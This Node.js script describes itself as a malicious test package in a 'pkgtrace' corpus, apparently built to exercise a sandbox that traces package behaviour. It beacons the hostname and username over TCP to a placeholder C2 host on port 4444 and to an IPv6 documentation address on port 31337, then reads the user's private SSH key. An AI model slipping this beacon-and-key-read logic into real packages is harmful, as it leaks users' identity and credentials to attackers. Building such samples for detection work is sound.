'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// A C2 beacon on odd ports: resolves c2.beacon-test.example and opens TCP to
// it on port 4444, and to the IPv6 literal [2001:db8::44]:31337, sending
// `BEACON <hostname> <username>` to each and waiting up to 1 s for an
// answer. Then it goes on to read ~/.ssh/id_rsa. Prints `net-odd-port: step
// N ...` at each step reached; exits 0 whatever fails, after 5 s at the
// latest.
const dns = require('dns');
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

const C2 = 'c2.beacon-test.example';
const say = (msg) => console.log(`net-odd-port: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

function userName() {
  try { return os.userInfo().username; } catch (e) { return process.env.USER || ''; }
}

const beacon = `BEACON ${os.hostname()} ${userName()}\n`;

// Sends the beacon to host:port, waits up to 1 s for an answer; `done` once.
function send(label, host, port, done) {
  let finished = false;
  const finish = () => { if (!finished) { finished = true; sock.destroy(); done(); } };
  const sock = net.connect({ host, port, timeout: 2000 });
  sock.on('connect', () => {
    sock.write(beacon);
    say(`step 2 beacon sent to ${label}`);
    setTimeout(() => { if (!finished) say(`step 2 no answer from ${label} within 1 s`); finish(); }, 1000);
  });
  sock.on('data', (d) => { say(`step 2 answer from ${label}: ${JSON.stringify(d.toString('latin1').slice(0, 60))}`); finish(); });
  sock.on('timeout', () => { say(`step 2 connect to ${label} timed out`); finish(); });
  sock.on('error', (e) => { say(`step 2 beacon to ${label} failed: ${errText(e)}`); finish(); });
  sock.on('close', finish);
}

function goOn() {
  try {
    const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
    say(`step 3 read ~/.ssh/id_rsa (${key.length} bytes)`);
  } catch (e) {
    say(`step 3 read ~/.ssh/id_rsa failed: ${errText(e)}`);
  }
  process.exit(0);
}

let pending = 2;
const done = () => { if (--pending === 0) goOn(); };

dns.lookup(C2, { family: 4 }, (err, address) => {
  if (err) { say(`step 1 lookup of ${C2} failed: ${errText(err)}`); done(); return; }
  say(`step 1 resolved ${C2} to ${address}`);
  send(`${C2}:4444`, address, 4444, done);
});
send('[2001:db8::44]:31337', '2001:db8::44', 31337, done);
